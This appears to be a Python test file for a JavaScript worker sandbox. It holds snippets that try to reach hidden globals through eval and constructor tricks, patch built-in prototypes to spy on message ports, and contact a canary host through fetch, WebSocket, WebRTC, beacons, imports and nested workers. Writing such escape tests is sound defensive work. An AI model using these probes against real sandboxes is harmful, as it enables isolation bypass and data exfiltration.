"""What jobs try in order to get out. `ADDRESS` is one that would tell on them, `OWN` such a one of the pool,
`NAME` a host name that nobody else looks up."""

# Every way to a global by its name that a job may think of.
REACH = """
const routes = [
  (name) => globalThis[name],
  (name) => (0, eval)(name),
  (name) => eval("(" + name + ")"),
  (name) => new Function("return " + name)(),
  (name) => Function("return this")()[name],
  (name) => (function () { return this; })()[name],
  (name) => (async () => {}).constructor("return " + name)(),
  (name) => (function* () {}).constructor("return " + name)().next().value,
  (name) => [].constructor.constructor("return " + name)(),
  (name) => ({}).constructor.constructor("return globalThis")()[name],
  (name) => {
    for (let level = globalThis; level; level = Object.getPrototypeOf(level)) {
      const found = Object.getOwnPropertyDescriptor(level, name);
      if (found) return found.value ?? found.get?.call(globalThis);
    }
  },
  (name) => Reflect.get(Object.getPrototypeOf(globalThis) ?? {}, name, globalThis),
  (name) => Object.getPrototypeOf(globalThis)?.constructor?.[name],
  (name) => arguments.callee.caller?.constructor("return " + name)(),
  (name) => {
    const before = Error.prepareStackTrace;
    try {
      Error.prepareStackTrace = (_, frames) => frames.map((frame) => frame.getThis() ?? frame.getFunction());
      return new Error().stack.map((one) => one?.[name] ?? one?.constructor?.(`return ${name}`)?.()).find(Boolean);
    } finally {
      Error.prepareStackTrace = before;
    }
  },
];
const reach = async (name) => {
  for (const [at, route] of routes.entries()) {
    try {
      const found = await route(name);
      if (found !== undefined) got.push(name + " by route " + at);
      if (found !== undefined) return found;
    } catch {}
  }
};
const got = [];
const attempt = async (action) => {
  try { got.push(String(await action())); } catch {}
};
"""

FIRST_WALL = {
    "fetch": 'const fetch = await reach("fetch"); if (fetch) await attempt(() => fetch(ADDRESS));',
    "XMLHttpRequest": """const Request = await reach("XMLHttpRequest");
      if (Request) { const request = new Request(); request.open("GET", ADDRESS, false); request.send(); }""",
    "WebSocket": """for (const name of ["WebSocket", "WebSocketStream", "WebTransport"]) {
      const Socket = await reach(name); if (Socket) new Socket(ADDRESS.replace("http", "ws")); }""",
    "WebRTC": """for (const name of ["RTCPeerConnection", "webkitRTCPeerConnection", "RTCDataChannel"]) {
      const Peer = await reach(name);
      if (Peer) { const peer = new Peer({ iceServers: [{ urls: ADDRESS.replace("http://", "stun:") }] });
        peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer()); } }""",
    "EventSource": 'const Source = await reach("EventSource"); if (Source) new Source(ADDRESS);',
    "sendBeacon": """const navigator = await reach("navigator"); if (navigator) navigator.sendBeacon(ADDRESS, "x");
      await reach("WorkerNavigator");""",
    "importScripts": 'const load = await reach("importScripts"); if (load) load(ADDRESS);',
    "dynamic import": """await attempt(() => import(ADDRESS));
      await attempt(() => new Function("url", "return import(url)")(ADDRESS));
      await attempt(() => import("data:text/javascript,export default 1"));
      await attempt(() => import("/escape-by-import"));""",
    "nested worker": """for (const name of ["Worker", "SharedWorker", "Blob", "URL"]) await reach(name);
      const Nested = await reach("Worker"); if (Nested) new Nested("data:text/javascript,fetch('" + ADDRESS + "')");""",
    "new Function": """for (const name of ["self", "globalThis.self", "window", "onmessage"]) await reach(name);
      for (const make of [Function, (async () => {}).constructor, (function* () {}).constructor,
        (async function* () {}).constructor]) await attempt(async () => {
          const answer = make("url", "return typeof fetch === 'undefined' ? undefined : fetch(url)")(ADDRESS);
          const value = await (answer.next?.() ?? answer); const told = value?.value ?? value;
          if (told === undefined || told?.done) throw 0; return JSON.stringify(told); });""",
    "forged messages": """for (const name of ["postMessage", "MessagePort", "MessageChannel", "dispatchEvent",
        "BroadcastChannel", "addEventListener", "MessageEvent", "close"]) await reach(name);
      // The runtime's own calls, seen through patched prototypes: a port would be among their receivers.
      const seen = new Set();
      const spy = (value) => { if (value && typeof value === "object") seen.add(value); };
      for (const holder of [Array.prototype, String.prototype, Promise.prototype, Function.prototype, Object.prototype])
        for (const name of Object.getOwnPropertyNames(holder)) {
          const found = Object.getOwnPropertyDescriptor(holder, name);
          if (typeof found.value !== "function" || !found.configurable || name === "constructor") continue;
          Object.defineProperty(holder, name, { ...found, value(...all) { spy(this); all.forEach(spy);
            return Reflect.apply(found.value, this, all); } }); }
      const names = ["port", "ports", "data", "onmessage", "0", "toJSON", "then"];
      for (const name of names)
        Object.defineProperty(Object.prototype, name, { configurable: true, set(value) { spy(this); spy(value); } });
      await Promise.resolve(); await null;
      for (const one of seen) if (/Port|Event|Scope/.test(Reflect.apply(Object.prototype.toString, one, [])))
        got.push("saw " + Reflect.apply(Object.prototype.toString, one, []));
      for (const name of names) delete Object.prototype[name];""",
    "storage": """for (const name of ["indexedDB", "caches", "localStorage", "sessionStorage", "cookieStore",
        "document", "FileReaderSync", "StorageManager", "BroadcastChannel"]) await reach(name);
      await attempt(async () => { const database = (await reach("indexedDB")).open("escape"); return database; });""",
    "parent and top": """for (const name of ["parent", "top", "opener", "frames", "frameElement", "window", "self",
        "clients"]) await reach(name);""",
    "navigation": """for (const name of ["location", "history", "navigation", "document"]) await reach(name);
      await attempt(() => { location.href = ADDRESS; return "navigated"; });
      await attempt(() => { location.assign(ADDRESS); return "navigated"; });""",
    "popups": """for (const name of ["open", "alert", "showOpenFilePicker", "Notification", "close"]) await reach(name);
      await attempt(() => open(ADDRESS));""",
    "image and name beacons": """for (const name of ["Image", "document", "FontFace", "fonts", "CSS", "Audio",
        "createImageBitmap", "OffscreenCanvas", "ReportingObserver"]) await reach(name);
      await attempt(() => new FontFace("x", "url(" + ADDRESS + ")").load());
      await attempt(() => { new Image().src = ADDRESS; return "asked for an image"; });
      await attempt(() => {
        document.head.innerHTML = `<link rel=dns-prefetch href=${ADDRESS}>`; return "prefetched"; });""",
    "waiting and clocks": """for (const name of ["setTimeout", "setInterval", "queueMicrotask", "scheduler",
        "performance", "Atomics", "SharedArrayBuffer", "crypto", "console", "requestAnimationFrame"])
        await reach(name);""",
}
"""Through the page, as a job: the worker has no name for what these look for."""

SECOND_WALL = {
    "fetch": "await fetch(ADDRESS, { mode: 'no-cors' });",
    "fetch of the pool": "await fetch(OWN, { mode: 'no-cors' });",
    "XMLHttpRequest": "const request = new XMLHttpRequest(); request.open('GET', ADDRESS, false); request.send();",
    "WebSocket": """await new Promise((end, fail) => {
      Object.assign(new WebSocket(ADDRESS.replace("http", "ws")), { onopen: end, onerror: fail }); });""",
    "WebTransport": "await new WebTransport(ADDRESS.replace('http:', 'https:')).ready;",
    "EventSource": """await new Promise((end, fail) => {
      Object.assign(new EventSource(ADDRESS), { onopen: end, onerror: fail }); });""",
    "importScripts": "importScripts(ADDRESS);",
    "importScripts of the pool": "importScripts(OWN);",
    "dynamic import": "await import(ADDRESS);",
    "dynamic import of the pool": "await import(OWN);",
    "import of a data URL": "(await import('data:text/javascript,export default 1')).default;",
    "nested worker from the network": "await new Promise((_, fail) => { new Worker(ADDRESS).onerror = fail; });",
    "nested worker from a blob": """await new Promise((_, fail) => {
      const text = "fetch(" + JSON.stringify(ADDRESS) + ").finally(() => postMessage(1))";
      new Worker(URL.createObjectURL(new Blob([text]))).onmessage = fail; });""",
    "font": "await new FontFace('x', 'url(' + ADDRESS + ')').load();",
    "indexedDB": """await new Promise((end, fail) => {
      Object.assign(indexedDB.open("x"), { onsuccess: end, onerror: fail }); });""",
    "caches": "await caches.open('x');",
    "name look-up": "await fetch('http://' + NAME, { mode: 'no-cors' });",
}
"""In the frame's worker with all its globals in place: the frame's origin and policy have to hold by themselves."""
